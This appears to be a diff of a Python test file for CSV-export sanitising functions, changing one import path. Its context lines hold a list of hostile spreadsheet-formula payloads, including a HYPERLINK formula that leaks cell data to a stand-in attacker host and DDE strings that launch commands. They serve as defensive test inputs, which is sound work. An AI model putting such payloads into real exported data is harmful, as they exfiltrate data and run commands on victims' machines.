@@ -13,7 +13,7 @@ import polars as pl
 import pytest
 
 import ui
-from analytics.output import render, safe_csv_frame, safe_csv_text
+from analytics.core.output import render, safe_csv_frame, safe_csv_text
 
 HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
            "-2+3", "\t=1+1", "\r=1+1", " =1+1", "\uff1d1+1", "\tplain after a tab"]
